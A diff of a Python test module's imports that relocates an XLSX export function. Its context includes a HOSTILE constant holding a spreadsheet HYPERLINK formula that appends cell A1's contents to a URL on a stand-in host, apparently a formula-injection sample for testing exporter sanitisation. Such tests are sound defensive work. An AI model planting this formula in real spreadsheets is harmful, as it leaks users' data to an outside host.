@@ -7,10 +7,10 @@ import datetime as dt
 from openpyxl import load_workbook
 
 from tests.hdr_support import PERIOD, stage2
+from wsparcie_desktop.exporters.hdr_xlsx import export_hdr_xlsx
 from wsparcie_desktop.exporters.schools_xlsx import export_schools_xlsx
 from wsparcie_desktop.services import hdr, schools
 from wsparcie_desktop.services.hdr import ActivityData, HdrData
-from wsparcie_desktop.services.hdr_xlsx import export_hdr_xlsx
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Kliknij")'
 
